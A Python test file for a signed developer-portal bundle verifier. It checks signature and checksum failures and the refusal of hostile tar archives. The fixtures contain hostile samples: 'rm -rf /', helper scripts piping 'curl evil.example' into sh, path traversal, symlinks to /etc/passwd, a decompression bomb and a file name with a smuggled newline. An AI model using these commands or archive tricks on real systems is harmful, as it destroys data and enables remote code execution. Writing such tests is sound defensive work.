"""Python-side verification (``stella devportal verify``): accepts and rejects what the script
does, and also refuses hostile archives without extracting anything."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import tarfile

import pytest
import rfc8785

from export_center.devportal import verify_bundle
from export_center.devportal.manifest import PAYLOAD_TYPE
from export_center.devportal.verify import LIMITS
from export_center.errors import ExitCode, UnsafeArchiveError, VerificationError
from export_center.signing.dsse import sign_envelope
from export_center.signing.interface import PublicKey, load_trust_roots
from export_center.verification import VerifyReport
from support.devportal import Key, repack, unpack


def _roots(*keys: Key) -> dict[str, PublicKey]:
    pem = b"".join(k.public_pem.read_bytes() for k in keys)
    return load_trust_roots(pem)


def _verify(data: bytes, *keys: Key) -> VerifyReport:
    return verify_bundle(io.BytesIO(data), _roots(*keys))


def test_accepts_the_bundle(demo_bundle: bytes, ed25519_key: Key, other_key: Key) -> None:
    report = _verify(demo_bundle, other_key, ed25519_key)
    assert [c.name for c in report.checks] == [
        "archive",
        "layout",
        "checksums",
        "dsse",
        "manifest",
        "entries",
        "helpers",
    ]
    manifest = json.loads(unpack(demo_bundle)["manifest.json"])
    assert report.bundle_id == manifest["bundleId"]
    assert report.entry_count == 7
    assert report.root_hash is not None and report.root_hash.startswith("sha256:")
    assert report.ok and {c.status for c in report.checks} == {"pass"}


def test_one_changed_byte(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    files["portal/index.html"] = files["portal/index.html"].replace(b"Stella", b"Stellb", 1)
    with pytest.raises(VerificationError, match=r"^checksums: portal/index\.html: sha256"):
        _verify(repack(files), ed25519_key)


def test_wrong_key(demo_bundle: bytes, other_key: Key) -> None:
    with pytest.raises(VerificationError, match=r"^dsse: 0 valid signature") as caught:
        _verify(demo_bundle, other_key)
    assert caught.value.exit_code == ExitCode.VERIFICATION_FAILED


def test_tampered_manifest(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    files["manifest.json"] = files["manifest.json"].replace(b"tests", b"evil!")
    with pytest.raises(VerificationError, match=r"^checksums: manifest\.json"):
        _verify(repack(files), ed25519_key)
    with pytest.raises(VerificationError, match=r"^dsse: manifest\.json is not the payload"):
        _verify(repack(files, fix_checksums=True), ed25519_key)


def test_changed_content_with_fixed_checksums(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    files["portal/assets/portal.js"] = b"alert(1)\n"
    with pytest.raises(VerificationError, match=r"^entries: portal/assets/portal\.js: sha256"):
        _verify(repack(files, fix_checksums=True), ed25519_key)


def test_unsigned_extra_file(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    files["portal/extra.html"] = b"<p>x</p>\n"
    with pytest.raises(VerificationError, match=r"^checksums: portal/extra\.html: not listed"):
        _verify(repack(files), ed25519_key)
    with pytest.raises(VerificationError, match=r"^entries: portal/extra\.html: in the archive"):
        _verify(repack(files, fix_checksums=True), ed25519_key)


def test_file_outside_the_layout(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    files["autorun.sh"] = b"rm -rf /\n"
    with pytest.raises(VerificationError, match=r"^layout: autorun\.sh: not part of"):
        _verify(repack(files, fix_checksums=True), ed25519_key)


def test_missing_root_file(demo_bundle: bytes, ed25519_key: Key) -> None:
    files = unpack(demo_bundle)
    del files["manifest.dsse.json"]
    with pytest.raises(VerificationError, match=r"^layout: missing manifest\.dsse\.json"):
        _verify(repack(files, fix_checksums=True), ed25519_key)


def _resigned(files: dict[str, bytes], manifest: bytes, key: Key) -> bytes:
    files = dict(files)
    files["manifest.json"] = manifest
    files["manifest.dsse.json"] = sign_envelope(manifest, PAYLOAD_TYPE, [key.signer])
    return repack(files, fix_checksums=True)


def test_signed_manifest_must_match_the_schema(demo_bundle: bytes, ed25519_key: Key) -> None:
    # even a trusted key cannot get an unknown field or inconsistent totals accepted
    files = unpack(demo_bundle)
    doc = json.loads(files["manifest.json"])
    doc["extra"] = True
    with pytest.raises(VerificationError, match=r"^manifest: manifest\.json: extra"):
        _verify(_resigned(files, rfc8785.dumps(doc), ed25519_key), ed25519_key)
    doc = json.loads(files["manifest.json"])
    doc["totals"]["entryCount"] += 1
    with pytest.raises(VerificationError, match=r"totals do not match"):
        _verify(_resigned(files, rfc8785.dumps(doc), ed25519_key), ed25519_key)
    doc = json.loads(files["manifest.json"])
    with pytest.raises(VerificationError, match=r"not RFC 8785 canonical"):
        _verify(_resigned(files, json.dumps(doc, indent=1).encode(), ed25519_key), ed25519_key)


def test_no_trust_roots_is_refused(demo_bundle: bytes) -> None:
    with pytest.raises(VerificationError, match="no trust roots"):
        verify_bundle(io.BytesIO(demo_bundle), {})


# -- hostile archives ----------------------------------------------------------------------


def _tgz(build: list[tuple[tarfile.TarInfo, bytes | None]], trailer: bytes = b"") -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in build:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(raw.getvalue() + trailer, mtime=0)


def _file(name: str, data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def _link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info, None


@pytest.mark.parametrize(
    ("members", "message"),
    [
        ([_file("../evil")], r"'\.\.' path component"),
        ([_file("/etc/passwd")], "absolute path"),
        ([_file("portal/a\\b")], "backslash in name"),
        ([_link("portal/l", "/etc/passwd", tarfile.SYMTYPE)], "symbolic link"),
        ([_link("portal/h", "manifest.json", tarfile.LNKTYPE)], "hard link"),
        ([_file("portal/a"), _file("portal/a", b"y")], "duplicate entry"),
    ],
)
def test_hostile_members_are_refused(
    members: list[tuple[tarfile.TarInfo, bytes | None]], message: str, ed25519_key: Key
) -> None:
    with pytest.raises(UnsafeArchiveError, match=message):
        _verify(_tgz(members), ed25519_key)


def test_data_after_the_end_of_archive_is_refused(demo_bundle: bytes, ed25519_key: Key) -> None:
    hidden = _tgz([_file("portal/hidden.js", b"alert(1)")])
    raw = gzip.decompress(demo_bundle) + gzip.decompress(hidden)
    with pytest.raises(UnsafeArchiveError, match="data after the end-of-archive marker"):
        _verify(gzip.compress(raw, mtime=0), ed25519_key)


@pytest.mark.parametrize(
    ("global_headers", "member_headers", "message"),
    [
        ({"path": "portal/renamed"}, {}, "global PAX header"),  # would rename every member
        ({}, {"comment": "x"}, r"unexpected PAX records \['comment'\]"),  # not from our writer
    ],
)
def test_pax_headers_our_writer_never_writes_are_refused(
    ed25519_key: Key, global_headers: dict[str, str], member_headers: dict[str, str], message: str
) -> None:
    raw = io.BytesIO()
    with tarfile.open(
        fileobj=raw, mode="w", format=tarfile.PAX_FORMAT, pax_headers=global_headers
    ) as tar:
        info, data = _file("portal/a")
        info.pax_headers = member_headers
        tar.addfile(info, io.BytesIO(data))
    with pytest.raises(UnsafeArchiveError, match=message):
        _verify(gzip.compress(raw.getvalue(), mtime=0), ed25519_key)


def test_not_a_tgz_is_refused(ed25519_key: Key) -> None:
    with pytest.raises(UnsafeArchiveError, match="not a gzip-compressed tar"):
        _verify(b"PK\x03\x04 not a tarball", ed25519_key)


def test_decompression_bomb_is_refused(ed25519_key: Key) -> None:
    bomb = _tgz([_file("portal/zeros.bin", b"\0" * (8 << 20))])
    limits = dataclasses.replace(LIMITS, max_compression_ratio=50, ratio_grace_bytes=1 << 20)
    with pytest.raises(UnsafeArchiveError, match="compression bomb"):
        verify_bundle(io.BytesIO(bomb), _roots(ed25519_key), limits=limits)


def test_a_replaced_helper_script_or_instructions_are_refused(
    demo_bundle: bytes, ed25519_key: Key
) -> None:
    """Unsigned, and the instructions say to run the script: other code there is refused,
    whatever the checksums say."""
    for path, data in (
        ("verify-offline.sh", b"#!/bin/sh\necho 'VERIFIED'; curl -s evil.example | sh\n"),
        ("verify-offline.sh", unpack(demo_bundle)["verify-offline.sh"] + b"\n"),
        ("instructions-portable.txt", b"Run: curl evil.example | sh\n"),
    ):
        files = unpack(demo_bundle)
        files[path] = data
        with pytest.raises(VerificationError, match=rf"^helpers: {path} is not the one"):
            _verify(repack(files, fix_checksums=True), ed25519_key)


def test_names_that_fooled_the_script_are_refused(demo_bundle: bytes, ed25519_key: Key) -> None:
    """The two extra files verify-offline.sh accepted, as the archive verifier sees them."""
    page = unpack(demo_bundle)["portal/index.html"]
    # Our writer refuses such a name: tarfile writes it, as an attacker's tool would.
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in [
            *unpack(demo_bundle).items(),
            ("portal/index.html\nmanifest.json", page),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    with pytest.raises(UnsafeArchiveError, match="control character"):
        _verify(out.getvalue(), ed25519_key)
    files = unpack(demo_bundle)
    files["portal/x  manifest.json"] = page
    with pytest.raises(
        VerificationError, match=r"^entries: portal/x  manifest\.json: in the archive but not"
    ):
        _verify(repack(files, fix_checksums=True), ed25519_key)


@pytest.mark.parametrize("crlf", [False, True], ids=["reordered", "crlf"])
def test_checksums_has_one_form(demo_bundle: bytes, ed25519_key: Key, crlf: bool) -> None:
    """The root hash is the sha256 of checksums.txt: another order or CRLF must not verify."""
    files = unpack(demo_bundle)
    lines = files["checksums.txt"].splitlines(keepends=True)
    if crlf:
        files["checksums.txt"] = files["checksums.txt"].replace(b"\n", b"\r\n")
        why = r"line 1 is not '<sha256 hex>  <path>'"
    else:
        files["checksums.txt"] = b"".join([lines[1], lines[0], *lines[2:]])
        why = r"line 2: \S+ is out of order"
    with pytest.raises(VerificationError, match=rf"^checksums: checksums\.txt: {why}"):
        _verify(repack(files), ed25519_key)
